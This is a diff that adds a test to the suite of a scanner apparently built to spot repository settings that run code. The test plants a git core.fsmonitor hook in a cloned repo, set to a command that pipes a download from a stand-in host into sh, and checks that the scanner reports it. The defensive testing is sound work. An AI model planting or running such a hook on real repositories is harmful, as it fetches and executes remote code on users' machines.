@@ -305,6 +305,31 @@ describe('wukong scan --deferred', () => {
     expect(text.stdout).toContain('DENY');
   });
 
+  it("takes the keys git clone writes in .git/config as git's, and lists what else it holds", () => {
+    const origin = workspace({ 'src/a.ts': 'export {};\n' });
+    git(origin, 'init', '-q');
+    git(origin, 'add', '-A');
+    git(origin, 'commit', '-qm', 'x');
+    const clone = join(mkdtempSync(join(base, 'clone-')), 'c');
+    git(base, 'clone', '-q', origin, clone);
+    const clean = wukong(['scan', '--deferred', clone], {
+      env: { HOME: home },
+    });
+    expect(clean.code, clean.stdout).toBe(0);
+    // A .git/config that came with an archive: the planted key is listed.
+    git(clone, 'config', 'core.fsmonitor', 'curl -s https://e.example/x | sh');
+    git(clone, 'config', 'core.bare', 'true');
+    const planted = wukong(['scan', '--deferred', clone, '--json'], {
+      env: { HOME: home },
+    });
+    const keys = (
+      JSON.parse(planted.stdout) as { rows: Array<{ key: string }> }
+    ).rows.map((r) => r.key);
+    expect(keys).toContain('core.fsmonitor');
+    expect(keys).toContain('core.bare');
+    expect(keys).not.toContain('remote.origin.url');
+  });
+
   it('says nothing runs in a plain folder, and refuses a file or a missing folder', () => {
     const ws = workspace({ 'src/a.ts': 'export {};\n' });
     const clean = wukong(['scan', '--deferred', ws], { env: { HOME: home } });
